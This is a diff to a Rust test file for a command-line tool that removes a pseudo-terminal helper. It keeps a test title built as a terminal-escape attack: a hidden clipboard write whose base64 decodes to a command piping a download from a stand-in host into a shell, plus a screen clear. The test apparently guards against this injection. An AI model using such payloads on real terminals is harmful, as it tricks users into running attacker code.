@@ -7,11 +7,7 @@
 mod common;
 use common::*;
 use serde_json::json;
-use std::ffi::CStr;
-use std::fs::{File, OpenOptions};
 use std::io::Read;
-use std::os::fd::FromRawFd;
-use std::os::unix::fs::OpenOptionsExt;
 use std::process::{Command, Stdio};
 use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
@@ -20,30 +16,6 @@ const T: Duration = Duration::from_secs(30);
 
 /// The title an attacker gives an item: a clipboard write and a screen clear.
 const TITLE: &str = "fix \u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}the \u{1b}[2Jbuild";
-
-/// A new pseudo-terminal: its master end (what the user's terminal would read) and its slave
-/// end (the CLI's stdout and stderr).
-fn open_pty() -> (File, File) {
-    // SAFETY: plain libc calls on a descriptor this function owns; ptsname's buffer is
-    // copied out at once.
-    unsafe {
-        let fd = libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY);
-        assert!(fd >= 0, "posix_openpt: {}", std::io::Error::last_os_error());
-        let master = File::from_raw_fd(fd);
-        assert_eq!(libc::grantpt(fd), 0, "grantpt");
-        assert_eq!(libc::unlockpt(fd), 0, "unlockpt");
-        let name = libc::ptsname(fd);
-        assert!(!name.is_null(), "ptsname");
-        let path = CStr::from_ptr(name).to_string_lossy().into_owned();
-        let slave = OpenOptions::new()
-            .read(true)
-            .write(true)
-            .custom_flags(libc::O_NOCTTY)
-            .open(&path)
-            .expect("open the pty's slave end");
-        (master, slave)
-    }
-}
 
 /// The CLI, pointed at the test server.
 fn cli(s: &TestServer, args: &[&str]) -> Command {
